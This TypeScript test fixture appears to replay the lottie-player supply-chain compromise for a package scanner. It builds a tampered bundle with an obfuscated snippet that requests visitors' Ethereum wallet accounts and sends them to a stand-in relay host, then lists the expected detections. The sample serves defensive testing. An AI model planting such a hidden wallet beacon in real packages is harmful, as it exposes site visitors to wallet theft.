import { obfuscated } from '../obfuscated.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

/** What a bundler leaves of a player, on one line. */
const bundle =
  '!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?e(exports):"function"==typeof define&&define.amd?define(["exports"],e)' +
  ':e((t=t||self)["lottie-player"]={})}(this,(function(t){"use strict";' +
  Array.from(
    { length: 60 },
    (_, at) =>
      `function f${at}(t,e){for(var r=0,n=0;n<t.length;n++)r+=t[n].frame*(e||1);return r>${at * 3}?r:t.length+${at}}`,
  ).join('') +
  'class e{constructor(t){this.items=t||[],this.speed=1}play(){return this.items.map((t=>f7(t,this.speed)))}seek(t){return f12(this.items,t)}}' +
  't.LottiePlayer=e,t.parseSrc=t=>"object"==typeof t?t:new URL(t,window.location.href).toString()}));\n'

/** Shows a dialog that connects a wallet, on every page that shows an animation. */
const prompt = obfuscated(
  'class $Prompt{constructor(){this[«socket»]=new WebSocket(«wss://relay.prompt.example/ws»);this[«ask»]();}' +
    'async[«ask»](){const $wallet=window[«ethereum»];if(!$wallet)return;' +
    'const $accounts=await $wallet[«request»]({method:«eth_requestAccounts»});' +
    'this[«socket»][«send»](JSON[«stringify»]({accounts:$accounts,page:window[«location»][«hostname»]}));}}new $Prompt();',
  80,
)

const inLottiePlayer = { file: 'dist/lottie-player.js', line: /_0x/ } as const

export const replay: Replay = replayUpgrade({
  description:
    'A stolen token released three versions of a player for animations within an hour. Each page that showed one asked its visitors to ' +
    'connect a wallet.',
  date: '2024-10-30',
  reviewedAt: '2024-10-31T08:00:00Z',
  name: '@lottiefiles/lottie-player',
  from: [
    '2.0.4',
    {
      manifest: { main: 'dist/lottie-player.js' },
      files: { 'dist/lottie-player.js': bundle },
      published: '2024-02-20T12:00:00Z',
    },
  ],
  to: [
    '2.0.5',
    {
      manifest: { main: 'dist/lottie-player.js' },
      files: { 'dist/lottie-player.js': bundle.replace('"use strict";', `"use strict";${prompt}`) },
      published: '2024-10-30T20:10:00Z',
    },
  ],
  beside: { '2.0.6': { published: '2024-10-30T20:40:00Z' }, '2.0.7': { published: '2024-10-30T21:05:00Z' } },
  findings: [
    ['release-fresh', 'medium'],
    ['code-hidden', 'critical', inLottiePlayer],
    ['combined-risk', 'critical', inLottiePlayer],
    ['beacon-added', 'high', inLottiePlayer],
    ['capability-added', 'high', inLottiePlayer],
    ['code-obfuscated', 'high', inLottiePlayer],
    ['network-host-added', 'medium', inLottiePlayer],
  ],
})
